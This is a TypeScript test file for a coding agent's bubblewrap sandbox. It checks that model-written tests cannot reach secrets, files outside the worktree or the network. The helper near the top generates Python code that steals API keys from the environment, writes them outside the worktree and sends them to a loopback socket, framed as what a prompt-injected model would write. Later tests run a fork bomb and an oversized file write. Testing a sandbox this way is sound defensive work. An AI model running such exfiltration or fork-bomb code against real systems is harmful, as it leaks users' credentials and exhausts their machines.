import { spawnSync } from "node:child_process";
import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:net";
import { homedir } from "node:os";
import { dirname, join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runProcess } from "../../src/fleet/process.js";
import { prepareSandbox, type Sandbox, type SandboxLimits, type SandboxRequest } from "../../src/fleet/sandbox.js";
import { makeRepo, PYTHON, removeTempDirs, tempDir } from "./repo.js";

const HAS_BWRAP = spawnSync("bwrap", ["--ro-bind", "/", "/", "true"]).status === 0;
const LIMITS: SandboxLimits = { cpuSeconds: 60, memoryMb: 2048, processes: 64, fileMb: 8, tmpMb: 64 };

/** A listener on loopback that records whether anything connected (checked from outside the sandbox). */
function listener(): Promise<{ server: Server; port: number; connections: () => number }> {
  let connections = 0;
  const server = createServer((socket) => {
    connections++;
    socket.destroy();
  });
  return new Promise((resolve) => server.listen(0, "127.0.0.1", () => resolve({ server, port: (server.address() as { port: number }).port, connections: () => connections })));
}

/**
 * A test file as a model that obeyed a prompt injection would write it: it reads secrets from the
 * environment, writes them outside the worktree (the host's /tmp, the user's home, the main
 * checkout's .git) and sends them to a port on loopback. Each attempt is recorded in the test's
 * own output; whether any succeeded is checked from outside.
 */
function exfiltratingTest(targets: string[], port: number, gitConfig = "/nonexistent"): string {
  return [
    "import os, socket",
    "",
    "",
    "def test_exfiltrate():",
    "    stolen = os.environ.get('OPENAI_API_KEY', '') + os.environ.get('ANY_TOKEN', '')",
    "    print('ENV', repr(stolen))",
    `    for target in ${JSON.stringify(targets)}:`,
    "        try:",
    "            with open(target, 'w') as handle:",
    "                handle.write(stolen or 'nothing')",
    "            print('WROTE', target)",
    "        except OSError as error:",
    "            print('WRITE-FAILED', target, error.errno)",
    `    print('GIT-CONFIG-HIDDEN' if not os.path.exists(${JSON.stringify(gitConfig)}) else 'GIT-CONFIG-VISIBLE')`,
    "    try:",
    `        connection = socket.create_connection(('127.0.0.1', ${port}), timeout=3)`,
    "        connection.sendall(stolen.encode() or b'x')",
    "        print('CONNECTED')",
    "    except OSError as error:",
    "        print('CONNECT-FAILED', error.errno)",
    "",
  ].join("\n");
}

let sandbox: Sandbox;
let root: string;
let tree: string;
let pycacheDir: string;

function request(overrides: Partial<SandboxRequest> = {}): SandboxRequest {
  return { mode: "bwrap", root, python: PYTHON, pycacheDir, allowEnv: [], limits: LIMITS, ...overrides };
}

afterAll(removeTempDirs);

describe.skipIf(!HAS_BWRAP)("the proof sandbox (real bubblewrap, real pytest)", () => {
  beforeAll(async () => {
    root = makeRepo({ "pkg/__init__.py": "", "tests/test_ok.py": "def test_ok():\n    assert True\n" });
    tree = join(root, ".pyagent", "worktrees", "run", "task-1");
    pycacheDir = join(root, ".pyagent", "pycache");
    mkdirSync(tree, { recursive: true });
    mkdirSync(pycacheDir, { recursive: true });
    sandbox = await prepareSandbox(request());
  });

  it("is bubblewrap when bwrap works here", () => {
    expect(sandbox.kind).toBe("bwrap");
    expect(sandbox.description).toContain("no network");
  });

  it("keeps secrets, files outside the worktree and the network away from a model-written test, as seen from outside", async () => {
    const server = await listener();
    const home = process.env.HOME ?? homedir();
    const targets = [join("/tmp", `pyagent-stolen-${process.pid}`), join(home, `pyagent-stolen-${process.pid}`), join(root, ".git", "stolen"), join(root, "stolen"), "/etc/pyagent-stolen"];
    writeFileSync(join(tree, "test_exfiltrate.py"), exfiltratingTest(targets, server.port, join(root, ".git", "config")));
    const env = { ...process.env, OPENAI_API_KEY: "sk-canary-0123456789abcdef0123", ANY_TOKEN: "canary-token-value", PYTHONPYCACHEPREFIX: pycacheDir };
    try {
      const result = await runProcess(PYTHON, ["-m", "pytest", "-q", "-s", "-p", "no:cacheprovider", "test_exfiltrate.py"], { cwd: tree, env, sandbox, timeoutMs: 60_000 });
      expect(result.code, result.stdout + result.stderr).toBe(0);
      expect(result.stdout).toContain("ENV ''");
      // Writes land in the sandbox's private tmpfs (/tmp, the home, over .git) or fail on the read-only rest: none reaches the host.
      for (const target of targets) expect(existsSync(target), target).toBe(false);
      expect(result.stdout).toContain(`WRITE-FAILED ${join(root, "stolen")}`);
      expect(result.stdout).toContain("WRITE-FAILED /etc/pyagent-stolen");
      expect(result.stdout).toContain("GIT-CONFIG-HIDDEN");
      expect(result.stdout).toContain("CONNECT-FAILED");
      expect(server.connections()).toBe(0);
    } finally {
      server.server.close();
    }
  });

  it("lets the same test through without the sandbox (the harness itself can see a leak)", async () => {
    const server = await listener();
    const target = join(tempDir("pyagent-outside-"), "stolen");
    writeFileSync(join(tree, "test_exfiltrate.py"), exfiltratingTest([target], server.port));
    try {
      const result = await runProcess(PYTHON, ["-m", "pytest", "-q", "-s", "-p", "no:cacheprovider", "test_exfiltrate.py"], { cwd: tree, env: { ...process.env, ANY_TOKEN: "canary-token-value" }, timeoutMs: 60_000 });
      expect(result.code, result.stdout + result.stderr).toBe(0);
      expect(readFileSync(target, "utf8")).toBe("canary-token-value");
      expect(server.connections()).toBe(1);
    } finally {
      server.server.close();
    }
  });

  it("writes in the worktree and the tree's own bytecode cache, not in the shared cache", async () => {
    const script = [
      "import os, sys",
      "open('written.txt', 'w').write('ok')",
      `shared = ${JSON.stringify(join(pycacheDir, "planted.pyc"))}`,
      "try:",
      "    open(shared, 'w').write('x')",
      "    print('SHARED-WRITTEN')",
      "except OSError:",
      "    print('SHARED-REFUSED')",
      "import pkg",
      "print('HOME', os.environ.get('HOME'), 'TMP', os.environ.get('TMPDIR'))",
    ].join("\n");
    writeFileSync(join(tree, "pkg.py"), "VALUE = 1\n");
    const result = await runProcess(PYTHON, ["-c", script], { cwd: tree, env: { ...process.env, PYTHONPYCACHEPREFIX: pycacheDir }, sandbox, timeoutMs: 60_000 });
    expect(result.code, result.stderr).toBe(0);
    expect(readFileSync(join(tree, "written.txt"), "utf8")).toBe("ok");
    expect(result.stdout).toContain("SHARED-REFUSED");
    expect(existsSync(join(pycacheDir, "planted.pyc"))).toBe(false);
    expect(existsSync(join(pycacheDir, tree))).toBe(true);
    const shared = await runProcess(PYTHON, ["-c", script], { cwd: tree, env: { ...process.env, PYTHONPYCACHEPREFIX: pycacheDir }, sandbox: sandbox.with({ sharedCache: true }), timeoutMs: 60_000 });
    expect(shared.stdout).toContain("SHARED-WRITTEN");
  });

  it("keeps the bytecode a baseline writes in a fresh repository (the cache folder does not exist yet)", async () => {
    const fresh = makeRepo({ "m.py": "" });
    const worktree = join(fresh, ".pyagent", "worktrees", "run", "baseline");
    mkdirSync(worktree, { recursive: true }); // the store and worktrees exist; the cache not yet
    const cache = join(fresh, ".pyagent", "pycache");
    const own = await prepareSandbox(request({ root: fresh, pycacheDir: cache }));
    const result = await runProcess(PYTHON, ["-c", "import json, sys; print(json.__file__)"], { cwd: worktree, env: { ...process.env, PYTHONPYCACHEPREFIX: cache }, sandbox: own.with({ sharedCache: true }), timeoutMs: 60_000 });
    expect(result.code, result.stderr).toBe(0);
    const source = result.stdout.trim();
    const compiled = readdirSync(join(cache, dirname(source))).filter((name) => name.startsWith("__init__.") && name.endsWith(".pyc"));
    expect(compiled.length, `bytecode of ${source} under ${cache}`).toBe(1);
  });

  it("passes a variable the user allows and nothing else", async () => {
    const allowed = await prepareSandbox(request({ allowEnv: ["DATABASE_URL"] }));
    const result = await runProcess(PYTHON, ["-c", "import os; print(sorted(k for k in os.environ if k in ('DATABASE_URL', 'AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN')))"], {
      cwd: tree,
      env: { ...process.env, DATABASE_URL: "postgres://localhost/test", AWS_SECRET_ACCESS_KEY: "canary", GITHUB_TOKEN: "canary" },
      sandbox: allowed,
      timeoutMs: 60_000,
    });
    expect(result.stdout.trim()).toBe("['DATABASE_URL']");
  });

  it("stops a fork bomb at the process limit", async () => {
    const bomb = [
      "import os, time",
      "children = 0",
      "try:",
      "    for _ in range(2000):",
      "        if os.fork() == 0:",
      "            time.sleep(3)",
      "            os._exit(0)",
      "        children += 1",
      "except OSError as error:",
      "    print('FORK-REFUSED', children)",
      "else:",
      "    print('FORKED-ALL', children)",
    ].join("\n");
    const result = await runProcess(PYTHON, ["-c", bomb], { cwd: tree, env: process.env, sandbox, timeoutMs: 60_000 });
    expect(result.stdout, result.stderr).toMatch(/FORK-REFUSED \d+/);
    expect(Number(/FORK-REFUSED (\d+)/.exec(result.stdout)![1])).toBeLessThan(LIMITS.processes);
  });

  it("stops a huge file write at the file size limit", async () => {
    const result = await runProcess(PYTHON, ["-c", "import signal\nsignal.signal(signal.SIGXFSZ, signal.SIG_IGN)\nwith open('huge.bin', 'wb') as out:\n    for _ in range(64):\n        out.write(b'0' * 1024 * 1024)\n"], { cwd: tree, env: process.env, sandbox, timeoutMs: 60_000 });
    expect(result.code).not.toBe(0);
    expect(result.stderr).toMatch(/File too large/);
    expect(statSync(join(tree, "huge.bin")).size).toBeLessThanOrEqual(LIMITS.fileMb * 1024 * 1024);
  });

  it("ends the sandbox with the check: a process left behind by a test does not survive it", async () => {
    const marker = `pyagent-sleeper-${process.pid}`;
    const result = await runProcess(PYTHON, ["-c", `import subprocess; subprocess.Popen(['sh', '-c', 'exec -a ${marker} sleep 300']); print('started')`], { cwd: tree, env: process.env, sandbox, timeoutMs: 60_000 });
    expect(result.stdout).toContain("started");
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(spawnSync("pgrep", ["-f", marker]).status).toBe(1);
  });
});

describe("without bubblewrap", () => {
  it("auto falls back to no isolation and says so; bwrap is refused with the reason", async () => {
    const repo = makeRepo({ "a.py": "" });
    const saved = process.env.PYAGENT_BWRAP;
    process.env.PYAGENT_BWRAP = "/nonexistent/bwrap";
    try {
      const base = { root: repo, python: PYTHON, pycacheDir: join(repo, ".pyagent", "pycache"), allowEnv: [], limits: LIMITS };
      const fallback = await prepareSandbox({ ...base, mode: "auto" });
      expect(fallback.kind).toBe("none");
      expect(fallback.description).toContain("/nonexistent/bwrap");
      await expect(prepareSandbox({ ...base, mode: "bwrap" })).rejects.toMatchObject({ name: "SandboxUnavailableError", exitCode: 7 });
      const result = await runProcess(PYTHON, ["-c", "import os; print(os.environ.get('ANY_TOKEN'))"], { cwd: repo, env: { ...process.env, ANY_TOKEN: "canary" }, sandbox: fallback, timeoutMs: 30_000 });
      expect(result.stdout.trim()).toBe("None");
    } finally {
      if (saved === undefined) delete process.env.PYAGENT_BWRAP;
      else process.env.PYAGENT_BWRAP = saved;
    }
  });
});

describe("sandbox-env in [tool.pyagent]", () => {
  it("lets a plain name through but refuses secret names, which only the command line may allow", async () => {
    const { sandboxForRun } = await import("../../src/fleet/sandbox-policy.js");
    const base = { mode: "off" as const, python: PYTHON, allowEnv: [], modelAgents: [] };
    const plain = makeRepo({ "a.py": "", "pyproject.toml": '[tool.pyagent]\nsandbox-env = ["DATABASE_URL"]\n' });
    await expect(sandboxForRun({ ...base, root: plain, pycacheDir: join(plain, ".pyagent", "pycache") })).resolves.toMatchObject({ kind: "off" });
    const secret = makeRepo({ "a.py": "", "pyproject.toml": '[tool.pyagent]\nsandbox-env = ["DATABASE_URL", "OPENAI_API_KEY", "AWS_PROFILE"]\n' });
    const refused = sandboxForRun({ ...base, root: secret, pycacheDir: join(secret, ".pyagent", "pycache") });
    await expect(refused).rejects.toMatchObject({ name: "ConfigError", exitCode: 2 });
    await expect(refused).rejects.toThrow(/names OPENAI_API_KEY, AWS_PROFILE, which look like secrets.*--sandbox-env/);
  });
});
